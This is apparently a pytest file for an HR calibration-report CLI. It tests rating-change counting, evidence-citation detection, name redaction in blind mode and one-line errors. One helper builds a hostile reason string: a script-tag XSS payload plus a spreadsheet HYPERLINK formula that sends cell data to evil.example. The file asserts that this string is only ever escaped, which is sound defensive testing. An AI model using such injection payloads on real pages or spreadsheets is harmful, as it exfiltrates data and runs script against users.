"""`calib report --session`: a calibration session's ratings as the after-calibration ratings.

A copy of the sample gets a session with a few rating changes (one reason holds a script tag, a
spreadsheet formula and another person's full name); the report is built through the CLI, open
and then, after the session is locked, blind. Errors (unknown session, missing or unreachable
store) are one line and exit 1.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from conftest import ROOT

from calib.delivery.sources import load_cycle
from calib.frame import normalize
from calib.inputs.config import load_config
from calib.outputs.report.citing import EvidenceTerms, Item
from calib.outputs.report.session import with_session_ratings
from calib.sessions import open_session

SAMPLE = ROOT / "data_samples"
LABELS = ["Does not meet", "Partially meets", "Meets", "Exceeds", "Far exceeds"]
OTHER = "E0010"  # named (full name) inside the hostile reason; never changed
AUTHORS = ("Ana Facilitator", "Dana Chair")
CHANGES = [  # (employee, new rating, reason, author): applied in this order
    ("E0003", "Exceeds", "Led it: https://launches.example.com/pricing/598", AUTHORS[0]),  # E0003's own item
    ("E0004", "Exceeds", None, AUTHORS[1]),  # None: the hostile reason (needs OTHER's name; a link to nothing)
    ("E0005", "Exceeds", "delivery evidence strong", AUTHORS[0]),  # a category names no item: not citing
    ("E0005", "Far exceeds", "two postmortems this cycle and the mastery they show", AUTHORS[1]),  # a criterion
    ("E0006", "Exceeds", "first pass", AUTHORS[0]),
    ("E0006", "Meets", "back again: no example given", AUTHORS[0]),
    ("E0008", "Exceeds", "Rolled out payment retries to all users", AUTHORS[0]),  # E0003's title, not E0008's
]
CITING = 2  # E0003's launch link, the criterion Mastery
UNDONE = "E0008"  # its change is undone: back where it began
CHANGED = {"E0003": ("Meets", "Exceeds"), "E0004": ("Far exceeds", "Exceeds"), "E0005": ("Meets", "Far exceeds")}
EVENTS = 1 + len(CHANGES) + 4  # open, the changes, an undo, a flag, a note, a discussed mark


def run_cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "calib.cli", *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
        timeout=600,
        env={**os.environ, "OPENBLAS_NUM_THREADS": "1", "OMP_NUM_THREADS": "1"},
    )


def one_line_error(run: subprocess.CompletedProcess, fragment: str) -> None:
    """Exit 1, exactly one line on stderr naming the problem, no traceback."""
    assert run.returncode == 1, run.stdout + run.stderr
    assert run.stderr.count("\n") == 1 and run.stderr.startswith("error: "), run.stderr
    assert fragment in run.stderr and "Traceback" not in run.stderr


def people() -> pd.DataFrame:
    return pd.read_csv(SAMPLE / "people.csv", dtype=str, keep_default_na=False)


def hostile(name: str) -> str:
    return f'<script>alert("x")</script> =HYPERLINK("http://evil.example/?"&A1,"click me") as {name} said'


def leaks(text: str, who: pd.DataFrame) -> list[str]:
    """Names, ids and handles of `who` found in `text` as whole words (handles in any case)."""
    found = []
    for column, ignore_case in (("name", False), ("employee_id", False), ("handle", True)):
        haystack = text.lower() if ignore_case else text
        for value in who[column]:
            needle = value.lower() if ignore_case else value
            if needle and needle in haystack and re.search(rf"(?<![\w-]){re.escape(needle)}(?![\w-])", haystack):
                found.append(f"{column}={value}")
    return found


def visible(html: str) -> str:
    """The page's text as read: tags dropped, entities decoded, whitespace collapsed."""
    import html as html_module

    inline = re.sub(r"</?(?:strong|em|code|a)\b[^>]*>", "", html)
    return " ".join(html_module.unescape(re.sub(r"<[^>]+>", " ", inline)).split())


@pytest.fixture(scope="module")
def reports(tmp_path_factory) -> dict[str, Path | str]:
    """The sample with session q3 (the changes above): the open report, then the blind one after a lock."""
    root = tmp_path_factory.mktemp("session-report")
    shutil.copytree(SAMPLE, root / "cycle")
    config, store = root / "cycle" / "cycle.yml", root / "sessions.sqlite"
    other_name = people().set_index("employee_id").loc[OTHER, "name"]
    settings = load_config(config)
    with open_session(settings, "q3", store=store, by=AUTHORS[0]) as session:
        for employee, rating, reason, author in CHANGES:
            session.set_rating(employee, rating, reason=reason or hostile(other_name), by=author)
        session.undo(UNDONE, reason="recorded for the wrong person", by=AUTHORS[0])
        session.flag("E0007", by=AUTHORS[1], reason="compare with E0006")
        session.note("E0007", "ask about the on-call rota", by=AUTHORS[1])
        session.mark_discussed("E0003", by=AUTHORS[0])
    common = [str(config), "--session", "q3", "--store", str(store)]
    opened = run_cli("report", *common, "--out", str(root / "open"))
    assert opened.returncode == 0, opened.stderr
    assert "After calibration = session q3 (open, 7 rating changes, 3 people changed)" in opened.stdout
    with open_session(settings, "q3", store=store) as session:
        session.lock(by=AUTHORS[1], reason="done")
    blind = run_cli("report", *common, "--out", str(root / "blind"), "--blind", "--per-manager")
    assert blind.returncode == 0, blind.stderr
    return {"open": root / "open", "blind": root / "blind", "store": store, "other": other_name}


@pytest.mark.slow
def test_after_calibration_is_the_sessions_ratings(reports):
    reviews = pd.read_csv(SAMPLE / "reviews.csv", dtype=str, keep_default_na=False)
    cycle = reviews[reviews["cycle"] == "2026-H1"].set_index("employee_id")
    submitted = cycle["rating"].value_counts()
    now = cycle["calibrated_rating"].copy()
    assert (now != cycle["rating"]).sum() == 13  # the sample's reviews carry 13 calibrated ratings of their own
    for employee, (before, after) in CHANGED.items():
        assert now[employee] == before
        now[employee] = after  # everyone the session did not change keeps the reviews' calibrated rating
    dist = pd.read_csv(reports["open"] / "tables" / "distributions.csv", dtype={"count": "Int64"})
    org = dist[dist["dimension"] == "all"]
    for stage, expected in (("calibrated", now.value_counts()), ("submitted", submitted)):
        counts = org[org["stage"] == stage].set_index("rating")["count"]
        assert {k: int(v) for k, v in counts.items()} == {k: int(expected.get(k, 0)) for k in LABELS}, stage


@pytest.mark.slow
def test_the_section_counts_the_changes_and_draws_the_matrix(reports):
    out = reports["open"]
    summary = json.loads((out / "session.json").read_text(encoding="utf-8"))
    people_in_scope = int((pd.read_csv(SAMPLE / "reviews.csv", dtype=str)["cycle"] == "2026-H1").sum())
    assert (summary["rating_changes"], summary["people_changed"], summary["changed_back"]) == (7, 3, 2)
    assert (summary["raised"], summary["lowered"], summary["people_in_scope"]) == (2, 1, people_in_scope)
    assert summary["undos"] == 1 and summary["event_kinds"] == {
        "open": 1, "rating": 7, "undo_rating": 1, "flag": 1, "discussed": 1, "note": 1
    }
    matrix = summary["matrix"]
    for before, after in CHANGED.values():
        assert matrix[LABELS.index(before)][LABELS.index(after)] == 1
    assert sum(matrix[i][i] for i in range(len(LABELS))) == people_in_scope - 3
    assert sum(map(sum, matrix)) == people_in_scope
    assert summary["evidence"]["citing"] == CITING and summary["evidence"]["changes"] == 7
    assert [c["employee_id"] for c in summary["changes"]] == [c[0] for c in CHANGES] + [UNDONE]
    assert [c["cites_evidence"] for c in summary["changes"]][:7] == [True, False, False, True, False, False, False]
    assert [e["kind"] for e in summary["log"]][-4:] == ["undo_rating", "flag", "note", "discussed"]
    by_discipline = {r["discipline"]: r["changed"] for r in summary["by_discipline"]}
    assert sum(by_discipline.values()) == 3
    by_manager = {r["manager_id"]: r["changes"] for r in summary["by_manager"] if r["changes"]}
    assert by_manager == {"E0028": 1, "E0109": 1, "E0051": 2, "E0116": 2, "E0106": 1}  # reviewers of E0003..E0008

    html = (out / "report.html").read_text(encoding="utf-8")
    assert re.search(r"<h2[^>]*>\s*Calibration changes", html)
    text = visible(html)
    assert f"recorded 7 rating change(s), which moved 3 of the {people_in_scope} people" in text
    assert "After calibration = calibration session q3 (cycle 2026-H1, scope cycle), open" in text
    assert str(reports["store"]) in text
    assert f"Reasons citing evidence: {CITING} of 7 rating changes (29%)" in text
    assert "names one of that person's evidence items of the cycle, by its title or its link" in text
    assert "Nikolai Qureshi" in text and "Meets → Exceeds, by Ana Facilitator (cites evidence)" in text
    assert "Every event of the session (1 open, 7 rating, 1 undo rating, 1 flag, 1 discussed, 1 note)" in text
    assert "undid a rating change" in text and "Exceeds → Meets, by Ana Facilitator. Reason: recorded for" in text
    assert "flagged for discussion" in text and "Note: ask about the on-call rota" in text
    assert "marked discussed" in text


@pytest.mark.slow
def test_a_hostile_reason_is_only_ever_escaped(reports):
    html = (reports["open"] / "report.html").read_text(encoding="utf-8")
    assert "<script" not in html.lower()
    assert "&lt;script&gt;alert(" in html
    assert not re.search(r"href\s*=\s*[\"']?https?://", html, re.I)  # the link in it is text, not a link
    text = visible(html)
    assert hostile(reports["other"]) in text  # shown to analysts verbatim, as text
    stored = json.loads((reports["open"] / "session.json").read_text(encoding="utf-8"))["changes"][1]["reason"]
    assert stored == hostile(reports["other"])


@pytest.mark.slow
def test_lineage_names_the_session_its_status_and_store(reports):
    opened = json.loads((reports["open"] / "lineage.json").read_text(encoding="utf-8"))["session"]
    assert (opened["name"], opened["status"], opened["store"]) == ("q3", "open", str(reports["store"]))
    assert opened["verified"] and opened["events"] == EVENTS and opened["rating_changes"] == 7
    locked = json.loads((reports["blind"] / "lineage.json").read_text(encoding="utf-8"))["session"]
    assert locked["status"] == "locked" and locked["events"] == EVENTS + 1
    assert locked["locked_by"].startswith("Author ")


@pytest.mark.slow
def test_blind_mode_names_no_changed_person_and_no_author(reports):
    out = reports["blind"]
    everyone = people()
    named = everyone[everyone["employee_id"].isin([*CHANGED, "E0006", OTHER])]
    assert leaks(hostile(reports["other"]), named)  # the check can fail
    files = [p for p in out.rglob("*") if p.is_file()]
    assert {"report.html", "session.json", "lineage.json"} <= {p.name for p in files}
    for path in files:
        text = path.read_text(encoding="utf-8")
        found = leaks(text, named)
        assert not found, f"{path.relative_to(out)}: {found[:5]}"
        assert not [a for a in AUTHORS if a.lower() in text.lower()], path.relative_to(out)
    summary = json.loads((out / "session.json").read_text(encoding="utf-8"))
    reason = summary["changes"][1]["reason"]
    assert reason.startswith('<script>alert("x")</script> =HYPERLINK(') and " as Person " in reason
    assert all(c["author"].startswith("Author ") for c in summary["changes"])
    text = visible((out / "report.html").read_text(encoding="utf-8"))
    assert "Calibration changes" in text and "locked" in text and "Person " in text


def test_a_reason_cites_evidence_only_by_naming_that_persons_item_or_a_criterion():
    items = {"E3": (Item("Ship the API", "https://git.example/1"), Item("Outage review", None))}
    terms = EvidenceTerms(("Impact", "Design Quality"), items)
    cites = {
        "see https://git.example/1 for the API": True,
        "see HTTPS://GIT.EXAMPLE/1/": True,
        "shipped: ship the  API, on time": True,
        "the outage review was exemplary": True,
        "IMPACT on checkout": True,
        "her design-quality was clear": True,
        "see https://git.example/12": False,  # another item's link
        "see https://elsewhere.example/1": False,
        "delivery evidence strong": False,  # a category names nothing to open
        "two PRs and a postmortem": False,  # kinds of evidence neither
        "impactful, but no example": False,
        "good vibes": False,
    }
    assert {reason: terms.cites(reason, "E3") for reason in cites} == cites
    assert not terms.cites("Ship the API", "E4")  # another person's item
    assert terms.cited("we did ship the api", "E3") == "Ship the API" and not terms.cites("shipped the API", "E3")
    definition = terms.definition()
    assert "by its title or its link" in definition and "Impact" in definition


def test_with_session_ratings_replaces_only_the_cycles_calibrated_ratings(tiny_cycle):
    from conftest import TINY_FILES

    reviews_text = TINY_FILES["reviews.csv"].replace("2025-H2,E3,E2,Meets,", "2025-H2,E3,E2,Meets,Exceeds")
    data = load_cycle(load_config(tiny_cycle(files={"reviews.csv": reviews_text})))
    before = data["reviews"].copy()
    table = pd.DataFrame({"employee_id": ["E3", "E5"], "rating": pd.Categorical(["Far exceeds", "Meets"], LABELS)})
    changed = with_session_ratings(data, table)
    pd.testing.assert_frame_equal(data["reviews"], before)  # pure: the input is untouched
    reviews = changed["reviews"].set_index(["cycle", "employee_id"])["calibrated_rating"]
    assert reviews[("2026-H1", "E3")] == "Far exceeds" and reviews[("2026-H1", "E5")] == "Meets"
    assert reviews[("2025-H2", "E3")] == "Exceeds"  # another cycle: as read
    assert pd.isna(reviews[("2026-H1", "E4")])  # not in the session: as read
    frame = normalize(changed).frame.set_index(["cycle", "employee_id"])["final_rating"]
    assert frame[("2026-H1", "E3")] == "Far exceeds" and frame[("2026-H1", "E4")] == "Meets"


@pytest.mark.slow
def test_an_unknown_session_or_a_bad_store_is_one_line_and_exit_1(tiny_cycle, tmp_path):
    config = tiny_cycle()
    store = tmp_path / "sessions.sqlite"
    with open_session(load_config(config), "real", store=store, by="Ana") as session:
        session.set_rating("E3", "Far exceeds", reason="ok", by="Ana")
    out = tmp_path / "report"
    one_line_error(
        run_cli("report", str(config), "--session", "nope", "--store", str(store), "--out", str(out)),
        "no session named 'nope' in 2026-H1",
    )
    missing = tmp_path / "elsewhere" / "sessions.sqlite"
    one_line_error(
        run_cli("report", str(config), "--session", "real", "--store", str(missing), "--out", str(out)),
        "no such file",
    )
    assert not missing.parent.exists()  # a report never creates a store
    hidden = run_cli(
        "report",
        str(config),
        "--session",
        "real",
        "--store",
        "postgresql://calib:pa55word@127.0.0.1:9/db",
        "--out",
        str(out),
    )
    one_line_error(hidden, "cannot be opened")
    assert "pa55word" not in hidden.stderr
    one_line_error(run_cli("report", str(config), "--store", str(store), "--out", str(out)), "give --session too")
    assert not out.exists()
